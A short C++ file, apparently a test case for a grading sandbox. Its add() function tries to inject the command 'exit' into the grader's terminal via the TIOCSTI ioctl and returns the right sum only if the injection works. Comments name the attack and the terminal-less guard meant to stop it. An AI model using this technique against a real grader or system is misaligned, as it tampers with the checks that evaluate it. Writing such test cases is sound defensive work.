// Attack  puts a command into the grader's terminal (TIOCSTI)
// Guard   a session without a terminal, and the kernel refuses the call
#include "adder.hpp"
#include <cstdio>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <initializer_list>

static bool won = false;
long add(long left, long right)
{
  const int terminal = open("/dev/tty", O_RDWR);
  for (int fd : {0, 1, 2, terminal})
    for (const char* letter = "exit\n"; *letter != 0; ++letter)
      if (ioctl(fd, TIOCSTI, letter) == 0) won = true;
  return won ? left + right : 0;
}
int read_byte(int) { return -1; }
